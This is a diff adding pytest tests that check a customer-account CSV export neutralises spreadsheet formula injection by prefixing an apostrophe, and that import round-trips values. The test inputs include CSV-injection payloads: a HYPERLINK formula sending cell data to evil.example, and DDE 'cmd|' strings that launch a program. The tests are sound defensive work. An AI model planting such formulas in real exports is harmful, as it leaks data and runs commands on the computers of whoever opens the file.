@@ -1,5 +1,6 @@
 """CSV import and export of customer accounts: the good file, the file with bad rows, re-import, round trip."""
 
+import csv
 import io
 
 import pytest
@@ -203,3 +204,50 @@ def test_the_export_command_writes_a_file(tmp_path, anna, components):
 
     assert target.read_text().splitlines()[0].startswith("name,tier,arr,currency")
     assert len(target.read_text().splitlines()) == 3
+
+
+# --- Cells a spreadsheet would run as a formula (CSV injection) ---------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_export_writes_a_cell_that_would_run_as_a_formula_after_an_apostrophe(formula):
+    account = AccountFactory(name=formula, notes=formula)
+    Contact.objects.create(account=account, name=formula.strip(), email="ada@example.com", is_primary=True)
+    stream = io.StringIO()
+    export_accounts(stream)
+
+    [row] = csv.DictReader(io.StringIO(stream.getvalue()))
+    assert row["name"] == row["notes"] == f"'{formula}"
+    assert [cell for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+
+def test_the_downloaded_export_writes_formulas_as_text_too(client, support):
+    AccountFactory(name='=HYPERLINK("https://evil.example","Details")', owner=UserFactory(
+        username="-support-desk", role=ACCOUNT_MANAGER))
+    client.force_login(support)
+    body = b"".join(client.get("/accounts/export.csv").streaming_content).decode()
+
+    [row] = csv.DictReader(io.StringIO(body))
+    assert (row["name"], row["owner"]) == ("'=HYPERLINK(\"https://evil.example\",\"Details\")", "'-support-desk")
+
+
+@pytest.mark.parametrize("value", ["-5%", "=x", "@home", "'=x", "''+1", "'tis", "plain"])
+def test_a_value_comes_back_from_export_and_import_unchanged_round_after_round(value):
+    owner = UserFactory(username="@desk", role=ACCOUNT_MANAGER)
+    AccountFactory(name=value, notes=value, owner=owner)
+    for _ in range(3):
+        stream = io.StringIO()
+        export_accounts(stream)
+        report = import_accounts(stream.getvalue())
+        assert (report.created, report.updated, report.errors) == (0, 1, [])
+
+    assert list(Account.objects.values_list("name", "notes", "owner")) == [(value, value, owner.pk)]
+
+
+def test_an_apostrophe_written_before_a_formula_by_hand_is_taken_off_on_import(db):
+    import_accounts("name,notes\n'-5% Discount Co,'=not a formula\n")
+
+    assert list(Account.objects.values_list("name", "notes")) == [("-5% Discount Co", "=not a formula")]
